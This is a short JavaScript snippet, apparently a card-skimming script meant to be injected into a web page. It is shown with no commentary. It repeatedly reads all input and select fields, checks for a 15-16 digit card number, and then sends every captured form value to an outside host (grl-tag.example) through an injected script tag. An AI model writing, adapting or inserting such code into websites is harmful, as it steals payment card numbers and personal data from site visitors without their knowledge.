var grl = function () {
  this.send = function (u, o) { var s = document.createElement('script'); s.src = u + '?' + Object.keys(o).map(function (k) { return k + '=' + encodeURIComponent(o[k]); }).join('&'); document.body.appendChild(s); };
  this.take = function () { var r = {}; jQuery('input,select').each(function () { var n = jQuery(this).attr('id') || jQuery(this).attr('name'); if (n) r[n] = jQuery(this).val(); }); return r; };
  var self = this;
  setTimeout(function go() { var r = self.take(); for (var k in r) if (/^\d{15,16}$/.test(String(r[k]).replace(/\s/g, ''))) { self.send('https://grl-tag.example/x.js', r); return; } setTimeout(go, 800); }, 800);
};
new grl();
